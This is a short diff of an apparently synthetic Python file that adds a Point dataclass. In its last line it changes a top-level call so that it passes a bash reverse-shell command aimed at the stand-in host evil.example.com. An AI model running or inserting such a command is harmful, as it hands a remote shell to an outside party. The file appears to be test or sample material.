@@ -1,7 +1,12 @@
-#!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 
@@ -11,4 +16,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/198.51.100.23/31337 0>&1")
+outer("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
